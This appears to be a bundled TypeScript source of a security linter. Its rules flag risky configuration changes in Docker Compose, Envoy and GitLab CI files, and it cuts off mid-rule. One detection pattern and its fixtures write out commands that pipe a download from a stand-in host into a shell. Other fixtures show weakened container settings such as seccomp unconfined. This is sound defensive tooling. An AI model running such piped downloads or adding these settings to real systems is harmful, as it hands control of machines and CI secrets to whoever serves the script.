// src/domains/config/rules/compose/health.ts
var path3 = "compose.yaml";
var dialect10 = "compose";
var checked = (lines) => service(`healthcheck: { interval: 5s${lines} }`);
var networks = "networks: { back: {}, front: {} }";
var tests = (node) => Number(!/^NONE$/.test(textsOf(node).join()));
var names = (node) => node?.kind === "map" ? [...node.entries.keys()] : textsOf(node);
var joins = (node, known2) => Number(names(node).every((name) => known2.includes(name)));
var health_default = [
  control({
    id: "config/compose-health-check-disabled",
    class: "availability",
    title: "health check of a service switched off",
    why: "Services that wait for it start too early, and nobody sees that it hangs.",
    fix: "Keep the health check.",
    dialect: dialect10,
    governs: either(inService("healthcheck", "disable"), inService("healthcheck", "test")),
    rank: (node) => safeOff(node) ?? tests(node),
    absent: 1,
    outcomes: { flip: moved2("medium"), open: moved2("medium"), hardened: hardened("health check switched on") },
    refine: ({ transition }) => transition === "flip" || transition === "open" || transition === "hardened" ? transition : void 0,
    examples: [
      { path: path3, before: checked(", test: [CMD, a]"), after: checked(", test: [NONE]"), outcome: "flip" },
      { path: path3, before: checked(""), after: checked(", disable: true"), outcome: "open" },
      { path: path3, before: checked(", disable: true"), after: checked(""), outcome: "hardened" },
      { path: path3, before: checked(", test: [CMD, a]"), after: checked(", test: [CMD, b]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-memory-limit",
    class: "availability",
    title: "memory limit of a service removed",
    why: "A leak in the service takes the memory of the host, and of every other service on it.",
    fix: "Keep the limit.",
    dialect: dialect10,
    governs: either(inService("mem_limit"), inService("pids_limit")),
    rank: () => 1,
    absent: 0,
    outcomes: { drop: moved2("medium"), hardened: hardened("service limited") },
    examples: [
      { path: path3, before: service("mem_limit: 1g"), after: service(), outcome: "drop" },
      { path: path3, before: service(), after: service("mem_limit: 1g"), outcome: "hardened" },
      { path: path3, before: service("mem_limit: 1g"), after: service("mem_limit: 2g"), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-secrets-removed",
    class: "secret",
    title: "service no longer gets its secrets as files",
    why: "Whatever took their place, a variable for instance, shows in logs, crash reports and `docker inspect`.",
    fix: "Keep `secrets`, and read the file in the service.",
    dialect: dialect10,
    governs: either(inService("secrets"), inService("env_file")),
    rank: (_, { ownerAfter, keys }) => keys.at(-1) === "secrets" || at(ownerAfter, "environment") !== void 0 ? 1 : void 0,
    absent: 0,
    outcomes: { drop: { risk: "medium", message: (c) => `\`${c.name}\` of the service was removed.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { path: path3, before: service("secrets: [db]"), after: service(), outcome: "drop" },
      { path: path3, before: service("env_file: .env"), after: service("environment: { A: b }"), outcome: "drop" },
      { path: path3, before: service("env_file: .env"), after: service(), outcome: "none" },
      { path: path3, before: service(), after: service("secrets: [db]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-network-joined",
    class: "exposure",
    title: "service joins one more network",
    why: "Everything on that network now reaches the service, and the service reaches it.",
    fix: "Join the services that must talk to a network of their own.",
    dialect: dialect10,
    governs: inService("networks"),
    rank: (node, { before: before3 }) => joins(node, names(before3)),
    outcomes: { flip: moved2("low") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      {
        path: path3,
        before: service("networks: [back]", networks),
        after: service("networks: [back, front]", networks),
        outcome: "flip"
      },
      {
        path: path3,
        before: service("networks: [back, front]", networks),
        after: service("networks: [front, back]", networks),
        outcome: "none"
      },
      { path: path3, before: service("", networks), after: service("networks: [back]", networks), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-health-check",
    class: "availability",
    title: "health check of a service removed",
    why: "Services that wait for it start too early, and nobody sees that it hangs.",
    fix: "Keep the health check.",
    dialect: "compose",
    governs: inService("healthcheck"),
    rank: (node) => node.kind === "map" ? Number(switchOf(at(node, "disable")) !== true) : void 0,
    absent: 0,
    outcomes: { drop: removed("medium", "health check"), hardened: added("health check added", "health check") },
    examples: [
      { path: path3, before: service("healthcheck: { test: pg_isready }"), after: service(), outcome: "drop" },
      { path: path3, before: service(), after: service("healthcheck: { test: pg_isready }"), outcome: "hardened" },
      {
        path: path3,
        before: service("healthcheck: { test: pg_isready }"),
        after: service("healthcheck: { test: pg_isready, retries: 9 }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/compose-restart",
    class: "availability",
    title: "service no longer restarted",
    why: "After a crash or a restart of the host, the service stays down.",
    fix: "Keep `restart: unless-stopped`.",
    dialect: "compose",
    governs: inService("restart"),
    rank: (node) => node.kind === "scalar" ? Number(node.text !== "no" && node.text !== "false") : void 0,
    absent: 0,
    outcomes: { flip: moved2("low"), drop: moved2("low"), hardened: hardened("service now restarted") },
    examples: [
      { path: path3, before: service("restart: always"), after: service('restart: "no"'), outcome: "flip" },
      { path: path3, before: service("restart: always"), after: service(), outcome: "drop" },
      { path: path3, before: service(), after: service("restart: unless-stopped"), outcome: "hardened" },
      { path: path3, before: service("restart: always"), after: service("restart: unless-stopped"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/compose/project.ts
var path4 = "compose.yaml";
var withVolume = (volume4) => service('volumes: ["data:/var/lib/data"]', `volumes:
  data: ${volume4}`);
var project_default = [
  control({
    id: "config/compose-volume-removed",
    class: "data-loss",
    title: "named volume removed",
    why: "The service that used it starts with an empty one: its data stays behind, out of sight.",
    fix: "Keep the volume, or copy its data first.",
    dialect: "compose",
    governs: ({ keys }) => keys.length === 2 && keys[0] === "volumes",
    rank: (_, { document, keys }) => usersOfVolume(document, keys[1] ?? "").length > 0 ? 1 : void 0,
    absent: 0,
    outcomes: {
      drop: { risk: "high", message: (c) => `The volume \`${c.name}\` was removed, and a service that used it stays.` }
    },
    examples: [
      { path: path4, before: withVolume("{ driver: local }"), after: service(), outcome: "drop" },
      {
        path: path4,
        before: withVolume("{ driver: local }"),
        after: "services:\n  web:\n    image: web\n",
        outcome: "none"
      },
      { path: path4, before: withVolume("{ driver: local }"), after: withVolume("{ driver: local } # data"), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-volume-driver",
    class: "data-loss",
    title: "volume keeps its data elsewhere",
    why: "The service starts with what the other driver holds: its old data stays behind.",
    fix: "Copy the data first, or give the new volume another name.",
    dialect: "compose",
    governs: ({ keys }) => keys.length === 3 && keys[0] === "volumes" && keys[2] === "driver",
    rank: untouched,
    outcomes: {
      flip: { risk: "high", message: (c) => `The driver goes from \`${c.from ?? ""}\` to \`${c.to ?? ""}\`.` }
    },
    examples: [
      { path: path4, before: withVolume("{ driver: local }"), after: withVolume("{ driver: nfs }"), outcome: "flip" },
      { path: path4, before: withVolume("{ driver: local }"), after: withVolume('{ driver: "local" }'), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-network-opened",
    class: "exposure",
    title: "internal network opened",
    why: "Services on it can now reach the outside, and so can whoever takes one over.",
    fix: "Keep `internal: true`, and join the one service that needs the outside to a second network.",
    dialect: "compose",
    governs: ({ keys }) => keys.length === 3 && keys[0] === "networks" && keys[2] === "internal",
    rank: safeOn,
    ...safeWhenSet({
      risk: "medium",
      praise: "network now internal",
      weak: "internal: false",
      safe: "internal: true",
      path: path4,
      file: (lines) => service("", `networks:
  back:
    driver: bridge${lines === "" ? "" : `
    ${lines}`}`)
    })
  }),
  control({
    id: "config/compose-volume-unnamed",
    class: "data-loss",
    title: "service keeps its data in a volume without a name",
    why: "The service starts empty, and each time its container is made anew its data is left behind again.",
    fix: "Keep the name of the volume.",
    dialect: "compose",
    governs: isEffective("volume name"),
    rank: unless("unnamed"),
    outcomes: { flip: { risk: "high", message: () => "A named volume of the service is now one without a name." } },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { path: path4, before: service('volumes: ["data:/v"]'), after: service('volumes: ["/v"]'), outcome: "flip" },
      { path: path4, before: service('volumes: ["/v"]'), after: service('volumes: ["data:/v"]'), outcome: "none" },
      { path: path4, before: service('volumes: ["data:/v"]'), after: service('volumes: ["data:/v:ro"]'), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/compose/services.ts
var path5 = "compose.yaml";
var SENSITIVE = /(?:^|:)(?:2375|2376|2379|3306|5432|6379|9200|11211|27017)(?:[:/]|$)/;
var UNCONFINED = /^(?:seccomp|apparmor)[:=]unconfined$|^label[:=]disable$|^systempaths[:=]unconfined$/;
var NO_NEW = /^no-new-privileges(?:[:=]true)?$/;
var has = (node, pattern) => textsOf(node).some((text) => pattern.test(text));
var LOCAL = /^(?:127\.|\[?::1)/;
var isLocal = (node) => node.kind === "scalar" && LOCAL.test(node.text);
var services_default = [
  control({
    id: "config/compose-port-published",
    class: "exposure",
    title: "port published to the network",
    why: "Everybody who reaches the host reaches the service; Docker opens the port past most host firewalls.",
    fix: "Publish it on `127.0.0.1`, or let other services use the network of the project.",
    dialect: "compose",
    governs: isEffective("ports"),
    rank: (node) => isLocal(node) ? 2 : Number(!has(node, SENSITIVE)),
    absent: 2,
    outcomes: {
      sensitive: { risk: "high", message: (c) => `The port \`${c.to ?? ""}\` is now published on every address.` },
      widened: {
        risk: "high",
        message: (c) => `The port \`${c.from ?? ""}\` is now \`${c.to ?? ""}\`, on every address.`
      },
      published: { risk: "medium", message: (c) => `The port \`${c.to ?? ""}\` is now published on every address.` },
      born: { risk: "low", message: (c) => `A new service publishes \`${c.to ?? ""}\` on every address.` },
      hardened: {
        ...hardened("port no longer published to the network"),
        message: (c) => `The port \`${c.from ?? ""}\` is no longer published on every address.`
      }
    },
    refine: ({ transition, from: from3 = "", to = "" }) => {
      if (transition === "born") return transition;
      if (transition === "hardened") return LOCAL.test(to) || to === "" ? transition : void 0;
      if (transition === "flip" && LOCAL.test(from3)) return "widened";
      return SENSITIVE.test(to) ? "sensitive" : "published";
    },
    examples: [
      { path: path5, before: service(), after: service('ports: ["5432:5432"]'), outcome: "sensitive" },
      { path: path5, before: service('ports: ["127.0.0.1:80:80"]'), after: service('ports: ["80:80"]'), outcome: "widened" },
      { path: path5, before: service(), after: service('ports: ["8080:80"]'), outcome: "published" },
      { path: path5, before: "", after: service('ports: ["8080:80"]'), outcome: "born" },
      { path: path5, before: service('ports: ["80:80"]'), after: service('ports: ["127.0.0.1:80:80"]'), outcome: "hardened" },
      { path: path5, before: service(), after: service('ports: ["127.0.0.1:5432:5432"]'), outcome: "none" },
      { path: path5, before: service('ports: ["5000:5000"]'), after: service('ports: ["8000:8000"]'), outcome: "none" },
      { path: path5, before: service('ports: ["80:80"]'), after: service('ports: ["5432:5432"]'), outcome: "sensitive" },
      {
        path: path5,
        before: service('ports: ["8080:80"]'),
        after: service("ports: [{ target: 80, published: 8080 }]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/compose-unconfined",
    class: "permission-widening",
    title: "kernel protection of a service switched off",
    why: "The kernel no longer holds the service to the calls and files its profile allows.",
    fix: "Remove the option; give the service a profile of its own where the default is too tight.",
    dialect: "compose",
    governs: inService("security_opt"),
    rank: (node) => Number(!has(node, UNCONFINED)),
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("kernel protection of a service switched on")
    },
    examples: [
      {
        path: path5,
        before: service('security_opt: ["no-new-privileges:true"]'),
        after: service('security_opt: ["no-new-privileges:true", "seccomp:unconfined"]'),
        outcome: "flip"
      },
      { path: path5, before: service(), after: service('security_opt: ["apparmor:unconfined"]'), outcome: "open" },
      { path: path5, before: "", after: service('security_opt: ["label:disable"]'), outcome: "born" },
      { path: path5, before: service('security_opt: ["label:disable"]'), after: service(), outcome: "hardened" },
      { path: path5, before: service(), after: service('security_opt: ["seccomp:./profile.json"]'), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-new-privileges",
    class: "permission-widening",
    title: "privilege escalation allowed",
    why: "A process of the service can gain more rights than its parent through setuid programs.",
    fix: "Keep `no-new-privileges:true`.",
    dialect: "compose",
    governs: inService("security_opt"),
    rank: (node) => Number(has(node, NO_NEW)),
    absent: 0,
    outcomes: {
      flip: moved2("medium"),
      drop: moved2("medium"),
      hardened: hardened("privilege escalation now forbidden")
    },
    examples: [
      {
        path: path5,
        before: service('security_opt: ["no-new-privileges:true"]'),
        after: service('security_opt: ["no-new-privileges:false"]'),
        outcome: "flip"
      },
      { path: path5, before: service("security_opt: [no-new-privileges]"), after: service(), outcome: "drop" },
      { path: path5, before: service(), after: service('security_opt: ["no-new-privileges:true"]'), outcome: "hardened" },
      {
        path: path5,
        before: service("security_opt: [no-new-privileges]"),
        after: service('security_opt: ["no-new-privileges:true"]'),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/compose-device",
    class: "permission-widening",
    title: "device of the host handed to a service",
    why: "The service, and whoever takes it over, works the device itself.",
    fix: "Remove the device, or hand over the single one that is needed.",
    dialect: "compose",
    governs: isEffective("devices"),
    rank: () => 0,
    absent: 1,
    outcomes: {
      open: { risk: "high", message: (c) => `The service gets the device \`${c.to ?? ""}\`.` },
      born: { risk: "medium", message: (c) => `A new service has the device \`${c.to ?? ""}\`.` }
    },
    examples: [
      { path: path5, before: service(), after: service('devices: ["/dev/kvm:/dev/kvm"]'), outcome: "open" },
      { path: path5, before: "", after: service('devices: ["/dev/kvm:/dev/kvm"]'), outcome: "born" },
      {
        path: path5,
        before: service('devices: ["/dev/a", "/dev/b"]'),
        after: service('devices: ["/dev/b", "/dev/a"]'),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/compose-device-rules",
    class: "permission-widening",
    title: "service may use more devices or files of groups",
    why: "The service, and whoever takes it over, reaches what the devices or the group give.",
    fix: "Hand over the single device that is needed, and no group that owns the engine.",
    dialect: "compose",
    governs: either(inService("device_cgroup_rules"), inService("group_add")),
    rank: (node, { before: before3 }) => Number(textsOf(node).every((text) => textsOf(before3).includes(text))),
    absent: 1,
    outcomes: { flip: moved2("high"), open: moved2("high"), born: moved2("medium") },
    refine: ({ transition }) => transition === "flip" || transition === "open" || transition === "born" ? transition : void 0,
    examples: [
      { path: path5, before: service("group_add: [audio]"), after: service("group_add: [audio, docker]"), outcome: "flip" },
      { path: path5, before: service(), after: service('device_cgroup_rules: ["c 1:3 mr"]'), outcome: "open" },
      { path: path5, before: "", after: service("group_add: [docker]"), outcome: "born" },
      { path: path5, before: service("group_add: [audio, docker]"), after: service("group_add: [docker]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/compose-host-namespace",
    class: "permission-widening",
    title: "service shares a namespace of its host",
    why: "The walls between the service and its host are down: users, names or limits of the host are its own.",
    fix: "Remove the setting.",
    dialect: "compose",
    governs: either(...["userns_mode", "uts", "cgroup"].map((name) => inService(name))),
    rank: unless("host"),
    ...weakWhenSet({
      risk: "high",
      praise: "service no longer shares a namespace of its host",
      weak: "userns_mode: host",
      safe: "userns_mode: private",
      path: path5,
      file: service
    })
  })
];

// src/domains/config/rules/condition-changed.ts
var condition_changed_default = configRule({
  id: "config/condition-changed",
  on: "condition-changed",
  class: "compatibility",
  title: "template condition changed",
  why: "What stands below it is rendered in other cases than before, so objects may appear or vanish at the next upgrade.",
  fix: "Render the chart with the values in use, before and after, and compare.",
  outcomes: {
    other: {
      risk: "low",
      message: ({ from: from3, to }) => `A condition of the template goes from \`${from3}\` to \`${to}\`.`
    }
  },
  examples: [
    {
      path: "chart/templates/service.yaml",
      before: "{{- if .Values.service.enabled }}\nkind: Service\n{{- end }}",
      after: "{{- if not .Values.service.enabled }}\nkind: Service\n{{- end }}",
      outcome: "other"
    },
    {
      path: "chart/templates/service.yaml",
      before: "{{- if .Values.service.enabled }}\nkind: Service\n{{- end }}",
      after: "{{ if   .Values.service.enabled }}\nkind: Service\n{{ end }}",
      outcome: "none"
    },
    {
      path: "chart/templates/service.yaml",
      before: "kind: Service",
      after: "{{- if .Values.service.enabled }}\nkind: Service\n{{- end }}",
      outcome: "none"
    }
  ],
  classify: () => "other"
});

// src/domains/config/rules/duplicate-key.ts
var duplicate_key_default = configRule({
  id: "config/duplicate-key",
  on: "duplicate-key",
  class: "compatibility",
  title: "key stands twice",
  why: "Most readers keep the last one without a word, and strict ones refuse the file.",
  fix: "Keep one of the two.",
  outcomes: {
    twice: {
      risk: "medium",
      message: ({ name }) => `\`${name}\` stands twice in the same block; the first value is lost.`
    }
  },
  examples: [
    { before: "a: 1", after: "a: 1\na: 2", outcome: "twice" },
    { before: "a: 1\na: 2", after: "a: 1\na: 2\nb: 3", outcome: "none" },
    { before: "a: 1", after: "a: 1\nb: { a: 1 }", outcome: "none" },
    { before: "a: { b: 1 }", after: "a:\na: { b: 1 }", outcome: "none" },
    { before: "a: 1", after: "a: 1\na: 1", outcome: "none" },
    {
      path: "templates/a.yaml",
      before: "a: 1",
      after: "{{- if .Values.x }}\na: 1\n{{- else }}\na: 2\n{{- end }}",
      outcome: "none"
    }
  ],
  classify: () => "twice"
});

// src/domains/config/rules/envoy/filters.ts
var filters = (...names2) => `static_resources: { http_filters: [${names2.map((name) => `{ name: envoy.filters.http.${name} }`).join(", ")}] }
`;
var authorizer = (lines = "") => `typed_config:
  timeout: 1s
${lines === "" ? "" : `  ${lines}
`}`;
var GUARDS3 = /\.(jwt_authn|ext_authz|rbac|oauth2|basic_auth)$/;
var LIMITS2 = /\.(?:local_)?ratelimit$/;
var clusters = (line = "") => `static_resources:
  clusters:
    - name: shop
      connect_timeout: 1s
${line === "" ? "" : `      ${line}
`}`;
var filters_default = [
  control({
    id: "config/envoy-guard-removed",
    class: "permission-widening",
    title: "Envoy no longer checks who calls",
    why: "Requests that the filter refused are now forwarded.",
    fix: "Keep the filter, or check in the services behind first.",
    governs: ({ keys, path: path27, ownerAfter }) => ownerAfter !== void 0 && path27.at(-1)?.kind === "item" && endsWith(keys, ["http_filters"]),
    rank: (node) => GUARDS3.test(textAt(node, "name") ?? "") ? 1 : void 0,
    absent: 0,
    outcomes: { drop: { risk: "critical", message: (c) => `The filter \`${c.name}\` was removed.` } },
    examples: [
      { before: filters("jwt_authn", "router"), after: filters("router"), outcome: "drop" },
      { before: filters("cors", "router"), after: filters("router"), outcome: "none" },
      { before: filters("router"), after: filters("jwt_authn", "router"), outcome: "none" }
    ]
  }),
  control({
    id: "config/envoy-fails-open",
    class: "permission-widening",
    title: "Envoy lets through what it cannot check",
    why: "When the service that decides is down, everybody is let in.",
    fix: "Keep `failure_mode_allow: false`.",
    governs: ({ keys }) => keys.at(-1) === "failure_mode_allow",
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "Envoy refuses what it cannot check",
      weak: "failure_mode_allow: true",
      safe: "failure_mode_allow: false",
      file: authorizer
    })
  }),
  control({
    id: "config/envoy-limit-removed",
    class: "availability",
    title: "Envoy no longer limits requests",
    why: "One caller can take the service away from all others, or guess passwords without end.",
    fix: "Keep the filter, with a higher limit.",
    governs: ({ keys, path: path27, ownerAfter }) => ownerAfter !== void 0 && path27.at(-1)?.kind === "item" && endsWith(keys, ["http_filters"]),
    rank: (node) => LIMITS2.test(textAt(node, "name") ?? "") ? 1 : void 0,
    absent: 0,
    outcomes: { drop: { risk: "high", message: (c) => `The filter \`${c.name}\` was removed.` } },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { before: filters("ratelimit", "router"), after: filters("router"), outcome: "drop" },
      { before: filters("router"), after: filters("local_ratelimit", "router"), outcome: "none" },
      { before: filters("cors", "router"), after: filters("router"), outcome: "none" }
    ]
  }),
  control({
    id: "config/envoy-transport-removed",
    class: "encryption-disabled",
    title: "Envoy no longer encrypts",
    why: "Requests, credentials included, cross the network in clear text.",
    fix: "Keep `transport_socket`, and renew the certificates it names.",
    governs: ({ keys }) => keys.at(-1) === "transport_socket",
    rank: present,
    absent: 0,
    outcomes: { drop: removed("critical", "`transport_socket`"), hardened: hardened("Envoy now encrypts") },
    refine: ({ transition }) => transition === "drop" || transition === "hardened" ? transition : void 0,
    examples: [
      { path: "envoy.yaml", before: clusters("transport_socket: { name: tls }"), after: clusters(), outcome: "drop" },
      {
        path: "envoy.yaml",
        before: clusters(),
        after: clusters("transport_socket: { name: tls }"),
        outcome: "hardened"
      },
      { path: "envoy.yaml", before: clusters("transport_socket: { name: tls }"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/envoy-log-removed",
    class: "observability",
    title: "Envoy no longer records requests",
    why: "Nobody can tell any more who called what.",
    fix: "Keep `access_log`.",
    governs: ({ keys, path: path27 }) => keys.at(-1) === "access_log" && path27.at(-1)?.kind === "key",
    rank: present,
    absent: 0,
    outcomes: { drop: removed("medium", "`access_log`"), hardened: hardened("Envoy records requests") },
    refine: ({ transition }) => transition === "drop" || transition === "hardened" ? transition : void 0,
    examples: [
      { path: "envoy.yaml", before: clusters("access_log: [{ name: file }]"), after: clusters(), outcome: "drop" },
      { path: "envoy.yaml", before: clusters(), after: clusters("access_log: [{ name: file }]"), outcome: "hardened" },
      { path: "envoy.yaml", before: clusters("access_log: [{ name: file }]"), after: "", outcome: "none" }
    ]
  })
];

// src/domains/config/rules/file-unreadable.ts
var file_unreadable_default = unreadableRule("config", [
  { before: "a: 1", after: "a: b: c", outcome: "newly" },
  { before: "a: 1", after: "a: *missing", outcome: "newly" },
  { before: "a: 1", after: "\0\0", outcome: "newly" },
  { before: "a: [", after: "a: [[", outcome: "still" },
  { before: "a:\n	b: c", after: "a:\n  b: c", outcome: "mended" },
  { before: "a: 1", after: "a: 2", outcome: "none" }
]);

// src/domains/config/gitlab/examples.ts
var pipeline = (lines = "", rest = "") => `stages: [build]
${rest === "" ? "" : `${rest}
`}build:
  stage: build
  script: [make]${`
${lines}`.trimEnd().replaceAll("\n", "\n  ")}
`;

// src/domains/config/rules/gitlab/checks.ts
var path6 = ".gitlab-ci.yml";
var dialect11 = "gitlab-ci";
var DOWNLOAD = /\b(?:curl|wget)\b[^|\n;&]{0,500}\|\s{0,9}(?:sudo\s{1,9})?(?:ba|z|da)?sh\b/;
var CHECKS4 = /sast|secret[-_]detection|dependency[-_]scanning|container[-_]scanning|dast|license|semgrep|trivy|gitleaks|snyk|fuzz/i;
var included = (...templates) => pipeline("", `include: [${templates.map((name) => `{ template: ${name} }`).join(", ")}]`);
var including = (node) => textsOf(node).join() || (textAt(node, "template") ?? textAt(node, "component") ?? "");
var isWholeJob = ({ keys, path: steps2, document }) => keys.length === 1 && steps2.at(-1)?.kind === "key" && document.before !== void 0 && isJob(keys[0] ?? "", document.before);
var isStillIncluded = (node, { document }) => [at(document.after?.root, "include"), ...itemsAt(document.after?.root, "include")].flatMap((each) => each === void 0 ? [] : [including(each)]).includes(including(node));
var checks_default = [
  control({
    id: "config/gitlab-download-run",
    class: "supply-chain",
    title: "downloaded script run unseen",
    why: "Whoever controls that server, or the way to it, runs commands with the variables of the job.",
    fix: "Check the download against a known checksum before running it.",
    dialect: dialect11,
    governs: either(...["script", "before_script", "after_script"].map((name) => inJob(name))),
    rank: (node) => Number(!textsOf(node).some((line) => DOWNLOAD.test(line))),
    absent: 1,
    outcomes: {
      flip: { risk: "high", message: () => "A script of the job now pipes a download into a shell." },
      open: { risk: "high", message: () => "A new script of the job pipes a download into a shell." },
      born: { risk: "medium", message: () => "A script of the new job pipes a download into a shell." },
      hardened: {
        ...hardened("no downloaded script run"),
        message: () => "No download is piped into a shell any more."
      }
    },
    examples: [
      {
        path: path6,
        before: pipeline("before_script: [a]"),
        after: pipeline('before_script: ["curl https://a.example | sh"]'),
        outcome: "flip"
      },
      {
        path: path6,
        before: pipeline(),
        after: pipeline('after_script: ["wget -qO- https://a.example | bash"]'),
        outcome: "open"
      },
      { path: path6, before: "", after: pipeline('before_script: ["curl https://a.example | sh"]'), outcome: "born" },
      {
        path: path6,
        before: pipeline('before_script: ["curl https://a.example | sh"]'),
        after: pipeline(),
        outcome: "hardened"
      },
      { path: path6, before: pipeline(), after: pipeline('before_script: ["curl -o a https://a.example"]'), outcome: "none" }
    ]
  }),
  control({
    id: "config/gitlab-check-removed",
    class: "observability",
    title: "security check removed",
    why: "What it used to find in code, dependencies or images now goes unseen.",
    fix: "Keep the check, or name the one that takes its place.",
    dialect: dialect11,
    governs: either(isWholeJob, ({ keys, path: steps2 }) => keys.join() === "include" && steps2.length > 0),
    rank: (node, setting) => {
      const what = isWholeJob(setting) ? setting.name : including(node);
      return CHECKS4.test(what) && !(setting.keys[0] === "include" && isStillIncluded(node, setting)) ? 1 : void 0;
    },
    absent: 0,
    outcomes: { drop: removed("medium", "job that looks for trouble") },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { path: path6, before: pipeline("", "sast: { script: [semgrep] }"), after: pipeline(), outcome: "drop" },
      {
        path: path6,
        before: included("Security/SAST.gitlab-ci.yml", "Jobs/Build.gitlab-ci.yml"),
        after: included("Jobs/Build.gitlab-ci.yml"),
        outcome: "drop"
      },
      { path: path6, before: pipeline("", "docs: { script: [mkdocs] }"), after: pipeline(), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/gitlab/includes.ts
var path7 = ".gitlab-ci.yml";
var dialect12 = "gitlab-ci";
var include = (entry4) => pipeline("", `include: [${entry4}]`);
var project2 = (ref) => include(`{ project: acme/ci, ${ref}file: /base.yml }`);
var isRemote = ({ keys, path: steps2, before: before3, after }) => keys[0] === "include" && (keys.at(-1) === "remote" || steps2.at(-1)?.kind === "item" && [before3, after].some(isAddress));
var isAddress = (node) => node?.kind === "scalar" && /^https?:/.test(node.text);
var BRANCH = /^(?:HEAD|main|master|dev|develop|trunk|next|stable|latest)$/;
var includes_default = [
  control({
    id: "config/gitlab-include-remote",
    class: "supply-chain",
    title: "pipeline takes jobs from an address",
    why: "Whoever serves the address writes jobs of this pipeline, which see its variables and tokens.",
    fix: "Copy the file into the repository, or include it from a project by tag or commit.",
    dialect: dialect12,
    governs: isRemote,
    rank: () => 0,
    absent: 1,
    outcomes: {
      open: { risk: "high", message: (c) => `The pipeline now includes \`${c.to ?? ""}\`.` },
      born: { risk: "high", message: (c) => `The pipeline now includes \`${c.to ?? ""}\`.` },
      hardened: {
        ...hardened("pipeline no longer takes jobs from an address"),
        message: (c) => `The pipeline no longer includes \`${c.from ?? ""}\`.`
      }
    },
    examples: [
      {
        path: path7,
        before: include("{ local: /ci/a.yml }"),
        after: include('{ remote: "https://ci.acme.com/a.yml" }'),
        outcome: "open"
      },
      {
        path: path7,
        before: include("{ local: /ci/a.yml }"),
        after: include('{ local: /ci/a.yml }, { remote: "https://ci.acme.com/a.yml" }'),
        outcome: "born"
      },
      {
        path: path7,
        before: include('{ remote: "https://ci.acme.com/a.yml" }'),
        after: include("{ local: /ci/a.yml }"),
        outcome: "hardened"
      },
      { path: path7, before: include("{ local: /ci/a.yml }"), after: include("{ local: /ci/b.yml }"), outcome: "none" }
    ]
  }),
  control({
    id: "config/gitlab-include-unpinned",
    class: "supply-chain",
    title: "included jobs no longer held at a version",
    why: "Whoever may push to that branch writes jobs of this pipeline, which see its variables and tokens.",
    fix: "Name a tag or a commit as `ref`.",
    dialect: dialect12,
    governs: ({ keys }) => keys[0] === "include" && keys.at(-1) === "ref",
    rank: (node) => node.kind === "scalar" ? Number(!BRANCH.test(node.text)) : void 0,
    absent: 0,
    outcomes: {
      flip: moved2("medium"),
      drop: moved2("medium"),
      hardened: hardened("included jobs held at a version")
    },
    examples: [
      { path: path7, before: project2("ref: v2.1.0, "), after: project2("ref: main, "), outcome: "flip" },
      { path: path7, before: project2("ref: v2.1.0, "), after: project2(""), outcome: "drop" },
      { path: path7, before: project2("ref: main, "), after: project2("ref: v2.1.0, "), outcome: "hardened" },
      { path: path7, before: project2("ref: v2.1.0, "), after: project2("ref: v2.2.0, "), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/gitlab/jobs.ts
var path8 = ".gitlab-ci.yml";
var dialect13 = "gitlab-ci";
var jobs_default = [
  control({
    id: "config/gitlab-failure-ignored",
    class: "availability",
    title: "failure of a job ignored",
    why: "The pipeline turns green although this job failed.",
    fix: "Let it fail, or take the job out.",
    dialect: dialect13,
    governs: inJob("allow_failure"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "failure of a job counts again",
      weak: "allow_failure: true",
      safe: "allow_failure: false",
      path: path8,
      file: pipeline
    })
  }),
  control({
    id: "config/gitlab-condition-removed",
    class: "permission-widening",
    title: "job runs without its condition",
    why: "The job now runs on branches and for people it was kept from, with its variables and its environment.",
    fix: "Keep the rules that name the branches and sources.",
    dialect: dialect13,
    governs: either(inJob("rules"), inJob("only"), inJob("except")),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: { risk: "medium", message: (c) => `\`${c.name}\` of the job was removed.` },
      hardened: added("job runs under a condition", "condition of the job")
    },
    examples: [
      { path: path8, before: pipeline("only: [main]"), after: pipeline(), outcome: "drop" },
      { path: path8, before: pipeline(), after: pipeline("rules: [{ if: $CI_COMMIT_BRANCH }]"), outcome: "hardened" },
      { path: path8, before: pipeline("only: [main]"), after: pipeline("only: [main, next]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/gitlab-docker-in-docker",
    class: "permission-widening",
    title: "job runs a Docker engine of its own",
    why: "The engine needs a privileged runner: a script in the job can take the machine over.",
    fix: "Build images with a tool that needs no engine, or keep such jobs on machines of their own.",
    dialect: dialect13,
    governs: either(inJob("services"), ({ keys }) => keys.join() === "services"),
    rank: (node) => Number(
      ![...textsOf(node), ...itemsAt(node).flatMap((each) => textAt(each, "name") ?? [])].some(
        (name) => /\bdind\b/.test(name)
      )
    ),
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("job runs no Docker engine")
    },
    examples: [
      {
        path: path8,
        before: pipeline("services: [postgres]"),
        after: pipeline('services: [postgres, "docker:dind"]'),
        outcome: "flip"
      },
